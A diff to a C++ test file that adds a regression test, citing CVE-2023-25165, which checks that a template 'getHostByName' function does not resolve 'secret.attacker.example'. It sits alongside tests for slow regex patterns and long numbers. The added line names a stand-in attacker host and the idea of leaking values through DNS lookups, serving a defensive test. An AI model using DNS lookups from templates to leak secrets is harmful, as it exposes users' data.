@@ -97,6 +97,12 @@ TEST(HostileTest, QuadraticPatternsMeetTheDeadline) {
   EXPECT_EQ(f.Text("regexReplaceAll", {S("a(.*b)?"), S(text), S("")}), "!the template takes too long");
 }
 
+// CVE-2023-25165: values must not leave by DNS. The default environment asks nobody.
+TEST(HostileTest, HostsAreNotLookedUp) {
+  Functions f;
+  EXPECT_EQ(f.Text("getHostByName", {S("secret.attacker.example")}), "");
+}
+
 TEST(HostileTest, NumbersWithManyDigitsAreFailures) {
   Functions f;
   std::vector<Value> factors(20'000, F(1.2345678901234567e-300));
